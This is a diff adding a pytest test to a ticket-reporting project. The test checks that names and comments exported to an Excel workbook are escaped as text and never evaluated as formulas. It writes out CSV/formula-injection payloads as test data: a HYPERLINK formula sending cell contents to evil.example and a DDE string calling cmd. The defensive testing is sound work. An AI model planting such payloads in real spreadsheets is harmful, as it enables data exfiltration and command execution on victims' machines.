@@ -12,12 +12,14 @@ from typing import Any
 
 import openpyxl
 import pytest
+import sqlalchemy as sa
 
 from hub.cli import main
 from hub.clock import SHANGHAI
 from hub.config import load_settings
 from hub.reports.monthly import build_monthly_report
 from hub.reports.monthly_xlsx import (
+    BAD_HEADERS,
     BAD_SHEET,
     LEDGER_HEADERS,
     LEDGER_SHEET,
@@ -27,7 +29,7 @@ from hub.reports.monthly_xlsx import (
     write_workbook,
 )
 from hub.store.db import Database
-from hub.store.models import CallbackSurvey, Ticket
+from hub.store.models import CallbackSurvey, Department, Enterprise, Rating, Ticket
 from hub.vocab import CallbackMethod, CallbackStatus, TicketState
 from tests.ticket_factory import make_org, make_ticket
 
@@ -320,6 +322,39 @@ def test_report_monthly_cli_writes_the_workbook_and_prints_json(
     assert main(args) == 2  # neither --out nor --json
     assert main([*args[:-1], "2026-13", "--json"]) == 2
     assert main([*args, "--out", str(tmp_path / "report.csv")]) == 2
+
+
+async def test_text_that_excel_would_evaluate_is_written_as_text(
+    any_db: Database, tmp_path: Path
+) -> None:
+    """An enterprise name or a rating comment is anyone's text: it must not become a formula."""
+    await seed(any_db)
+    link = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    async with any_db.write() as session:
+        await session.execute(sa.update(Enterprise).values(name=link + "\x07"))
+        await session.execute(sa.update(Rating).values(comment="@SUM(1+1)*cmd|' /C calc'!A0"))
+        await session.execute(
+            sa.update(Department).where(Department.code == "FGW").values(name="-2+3")
+        )
+    report = await build_monthly_report(any_db, "2026-11", NOW)
+
+    wb = openpyxl.load_workbook(write_workbook(report, tmp_path / "2026-11.xlsx"))
+
+    cells = [cell for ws in wb for row in ws.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    ledger = sheet_rows(wb[LEDGER_SHEET])
+    column = {header: index for index, header in enumerate(LEDGER_HEADERS)}
+    # a leading ' (OWASP): Excel neither evaluates the text nor does once it is edited
+    assert {r[column["企业名称"]] for r in ledger[1:]} == {"'" + link}  # \x07 dropped
+    assert {r[column["承办部门"]] for r in ledger[1:]} >= {"'-2+3"}
+    bad = sheet_rows(wb[BAD_SHEET])
+    assert {r[BAD_HEADERS.index("评价内容")] for r in bad[1:]} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+    # numbers stay numbers: counts and rates are still numeric cells
+    summary = sheet_rows(wb[SUMMARY_SHEET])
+    assert figures(summary, "'-2+3")["受理"] == 4
+    assert all(isinstance(value, int) for value in summary[-1][1:13])
+    # a masked phone is no formula: shown as it is
+    assert {r[column["联系电话"]] for r in ledger[1:]} == {"+86139****9001", "+86139****9002"}
 
 
 def test_ledger_headers_match_the_row_fields() -> None:
